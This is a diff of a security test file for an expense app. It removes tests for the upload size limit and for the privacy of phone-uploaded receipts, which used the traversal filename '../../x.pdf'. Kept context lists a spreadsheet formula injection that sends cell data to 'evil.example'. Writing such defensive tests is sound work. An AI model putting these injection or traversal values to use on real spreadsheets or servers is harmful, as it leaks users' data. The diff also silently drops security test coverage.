@@ -1,18 +1,11 @@
-import {
-  downloadReceiptsZipRoute,
-  downloadReportRoute,
-  routePath,
-  uploadReceiptRoute,
-  type ReportJson,
-} from '@outlay/contracts';
+import { downloadReceiptsZipRoute, downloadReportRoute, routePath, type ReportJson } from '@outlay/contracts';
 import { eventually, readReceiptsZip, readZip } from '@outlay/testing';
 import { readSheet } from 'read-excel-file/node';
 import { sendRaw, expectNoChange } from './testing/attack.js';
 import { START_TIMEOUT_MS, startCompany, type Company, type Person } from './testing/company.js';
-import { fileOf, pdf, pdfOfSize } from './testing/receipt-files.js';
+import { fileOf, pdf } from './testing/receipt-files.js';
 import { IMPOSTORS, pngOf, POLYGLOTS } from './testing/malicious-files.js';
 
-const MAX_BYTES = 10_485_760;
 const TRICKS = [
   '=HYPERLINK("http://evil.example?"&A1,"x")',
   '+1+1',
@@ -99,17 +92,6 @@ describe('attacks with files and file names', () => {
     expect(await expectError('POST', '/api/uploads', { as, form: upload(file()) })).toMatchObject({ status: 400 });
     const fair = await company.claim({}, { receipt: fileOf(pngOf(8_160, 6_144, 6_144), 'photo.png', 'image/png') });
     expect(fair.receipt).toMatch(/\.png$/);
-  });
-
-  it('accepts 10,485,760 bytes; one more is 413', async () => {
-    const { mia: as } = company;
-    expect((await company.claim({}, { receipt: pdfOfSize(MAX_BYTES) })).receipt).toMatch(/\.pdf$/);
-    for (const [path, form] of [
-      ['/api/expenses', company.form({}, pdfOfSize(MAX_BYTES + 1))],
-      ['/api/uploads', upload(pdfOfSize(MAX_BYTES + 1))],
-    ] as const) {
-      expect(await expectError('POST', path, { as, form })).toMatchObject({ status: 413, code: 'FILE_TOO_LARGE' });
-    }
   });
 
   it.each([
@@ -217,15 +199,5 @@ describe('attacks with files and file names', () => {
       for (const { justification } of approved)
         expect(cells.filter((cell) => cell === justification).length).toBeGreaterThan(1);
     }
-  });
-
-  it('a file uploaded by phone is usable only by its sender, and its bytes are unchanged', async () => {
-    const { mia, api } = company;
-    const file = pdf('by phone', '../../x.pdf');
-    const { filename, url } = await api.call(uploadReceiptRoute, { as: mia, form: upload(file) });
-    expect(filename).toMatch(/^[0-9a-f-]{36}\.pdf$/);
-    expect(url).toBe(`/submit-expense?uploaded=${filename}`);
-    const { bytes } = await download(`/uploads/${filename}`, mia);
-    expect(bytes).toEqual(Buffer.from(await file.arrayBuffer()));
   });
 });
